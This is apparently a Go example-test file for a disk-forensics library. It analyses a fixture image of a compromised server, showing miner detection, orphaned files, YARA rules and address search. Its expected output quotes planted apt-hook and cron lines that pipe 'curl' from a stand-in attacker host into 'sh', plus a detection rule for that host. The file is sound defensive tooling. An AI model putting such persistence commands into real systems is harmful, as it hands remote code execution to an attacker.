package forensics_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log"
	"os"
	"path/filepath"
	"slices"
	"sync"
	"testing"

	"icecore/fixtures"
	"icecore/forensics"
	"icecore/forensics/filesystem"
)

var samples string // a directory, made when the first sample is asked for

func TestMain(m *testing.M) {
	code := m.Run()
	if samples != "" {
		os.RemoveAll(samples)
	}
	os.Exit(code)
}

// hijacked gives the path of the sample snapshot of a hijacked server, the one of
// `make demo`.
var hijacked = sync.OnceValue(func() string {
	var err error
	if samples, err = os.MkdirTemp("", "icecore-examples-"); err != nil {
		log.Fatal(err)
	}
	name := filepath.Join(samples, "compromised.img")
	if err := fixtures.Build(context.Background(), fixtures.Compromised, name); err != nil {
		log.Fatal(err)
	}
	return name
})

// The main job: read an image, and say what happened.
func ExampleAnalyze() {
	a, err := forensics.Analyze(context.Background(), hijacked(), forensics.Options{})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(a.System().Hostname, "is", a.Verdict.State)
	for _, f := range a.Findings[:2] {
		fmt.Println(f.Level, f.Rule, f.Source.Path)
	}
	// Output:
	// shop01 is compromised
	// critical guessed_password /var/log/auth.log
	// critical XMRig_Binary /tmp/.ICE-unix/.x/kswapd0
}

// Open an image, and list a directory of its root filesystem.
func ExampleOpen() {
	img, err := forensics.Open(context.Background(), hijacked(), forensics.OpenOptions{})
	if err != nil {
		log.Fatal(err)
	}
	defer img.Close()
	root, err := img.Volume("")
	if err != nil {
		log.Fatal(err)
	}
	list, err := root.List(context.Background(), forensics.ListOptions{Path: "/tmp/.ICE-unix/.x"})
	if err != nil {
		log.Fatal(err)
	}
	for _, l := range list {
		fmt.Println(filesystem.ModeString(l.Inode.Mode), l.Inode.Size, l.Path)
	}
	// Output:
	// -rw-r--r-- 495 /tmp/.ICE-unix/.x/config.json
	// -rwxr-xr-x 1144 /tmp/.ICE-unix/.x/kswapd0
}

// Open an image that is no file: of an object store, or in memory.
func ExampleOpenReader() {
	f, err := os.Open(hijacked()) // any io.ReaderAt
	if err != nil {
		log.Fatal(err)
	}
	defer f.Close()
	st, err := f.Stat()
	if err != nil {
		log.Fatal(err)
	}
	img, err := forensics.OpenReader(context.Background(), f, st.Size(), "s3://snapshots/shop01", forensics.OpenOptions{})
	if err != nil {
		log.Fatal(err)
	}
	defer img.Close()
	for _, v := range img.Volumes {
		fmt.Println(v.ID, v.Content)
	}
	// Output:
	// p14 BIOS boot
	// p15 vfat
	// p1 ext4
}

// Read a file that was deleted while its program was running: it has an inode, and no
// name.
func ExampleImage_EachFile() {
	ctx := context.Background()
	img, err := forensics.Open(ctx, hijacked(), forensics.OpenOptions{})
	if err != nil {
		log.Fatal(err)
	}
	defer img.Close()
	err = img.EachFile(ctx, "", filesystem.WalkOptions{Orphans: true}, func(v *forensics.Volume, e *filesystem.Entry) error {
		if e.Inode == nil || e.Inode.State != filesystem.Orphan {
			return nil
		}
		f, err := v.FS.Open(e.Inode.Ref)
		if err != nil {
			return err
		}
		head := make([]byte, 4)
		if _, err := f.ReadAt(head, 0); err != nil && !errors.Is(err, io.EOF) {
			return err
		}
		fmt.Printf("%s %s, %d bytes, begins with %q\n", v.ID, e.Inode.State, f.Size(), head)
		return nil
	})
	if err != nil {
		log.Fatal(err)
	}
	// Output:
	// p1 orphan, 1144 bytes, begins with "\x7fELF"
}

// Search with rules of your own alone.
func ExampleRuleOptions() {
	rules := filepath.Join(filepath.Dir(hijacked()), "mine.yar")
	err := os.WriteFile(rules, []byte(`rule Their_Host { strings: $a = "203.0.113.77" condition: $a and is_elf }`), 0o600)
	if err != nil {
		log.Fatal(err)
	}
	a, err := forensics.Analyze(context.Background(), hijacked(), forensics.Options{
		Rules: forensics.RuleOptions{YARA: []string{rules}, NoBuiltin: true},
		Scan:  forensics.ScanOptions{YARAOnly: true},
	})
	var bad *forensics.RuleError
	if errors.As(err, &bad) {
		log.Fatalf("%s, line %d: %s", bad.File, bad.Line, bad.Why)
	}
	if err != nil {
		log.Fatal(err)
	}
	for i := range a.Records {
		r := &a.Records[i]
		fmt.Println(r.Get("rule"), r.Source.State, r.Source.Path)
	}
	// Output:
	// Their_Host live /tmp/.ICE-unix/.x/kswapd0
	// Their_Host live /usr/bin/.sshd-agent
	// Their_Host orphan /var/tmp/.d
	// Their_Host live /var/tmp/.k.tar.gz
}

// Read an analysis back, without the image: from analysis.json of a case directory, or
// from what `icecore analyze --format json` printed.
func ExampleRead() {
	made, err := forensics.Analyze(context.Background(), hijacked(), forensics.Options{Scan: forensics.ScanOptions{NoYARA: true}})
	if err != nil {
		log.Fatal(err)
	}
	var file bytes.Buffer
	if err := made.Write(&file); err != nil {
		log.Fatal(err)
	}
	a, err := forensics.Read(&file)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(a.System().Hostname, "is", a.Verdict.State)
	f := &a.Findings[0]
	fmt.Println(f.Level, f.Rule)
	for i := range a.Records {
		if r := &a.Records[i]; slices.Contains(f.Records, r.ID) && r.Kind == "auth.login" {
			fmt.Println(r.Get("user"), "from", r.Get("address"), "at line", r.Source.Line, "of", r.Source.Path)
		}
	}
	// Output:
	// shop01 is compromised
	// critical guessed_password
	// root from 203.0.113.77 at line 1320 of /var/log/auth.log
}

// List what a server has, benign things too, each with the file and line that states it.
func ExampleListImage() {
	img, err := forensics.Open(context.Background(), hijacked(), forensics.OpenOptions{})
	if err != nil {
		log.Fatal(err)
	}
	defer img.Close()
	keys, err := forensics.ListImage(context.Background(), img, "keys", forensics.ListImageOptions{})
	if err != nil {
		log.Fatal(err)
	}
	for _, r := range keys.Rows {
		fmt.Println(r.Cells[0], r.Cells[1], r.Source.Path, r.Source.Line)
	}
	// Output:
	// [deploy] [ssh-ed25519] /home/deploy/.ssh/authorized_keys 1
	// [root] [ssh-ed25519] /root/.ssh/authorized_keys 1
	// [root] [ssh-rsa] /root/.ssh/authorized_keys 2
}

// Search the files of an image for an address, in any form.
func ExampleSearchImage() {
	img, err := forensics.Open(context.Background(), hijacked(), forensics.OpenOptions{})
	if err != nil {
		log.Fatal(err)
	}
	defer img.Close()
	p, err := forensics.ParsePattern("203.0.113.0/24", forensics.PatternOptions{})
	if err != nil {
		log.Fatal(err)
	}
	o := forensics.SearchOptions{In: []string{"files"}, Limit: 2}
	stats, err := forensics.SearchImage(context.Background(), img, p, o, func(h *forensics.SearchHit) error {
		fmt.Printf("%s:%d: %s\n", h.Source.Path, h.Source.Line, h.Excerpt)
		return nil
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("there may be more:", stats.Limited)
	// Output:
	// /etc/apt/apt.conf.d/99update:1: DPkg::Post-Invoke { "(curl -fsSL http://203.0.113.77/a.sh | sh) >/dev/null 2>&1 || true"; };
	// /etc/cron.d/0sysstat:1: * * * * * root curl -fsSL http://203.0.113.77/c.sh|sh
	// there may be more: true
}
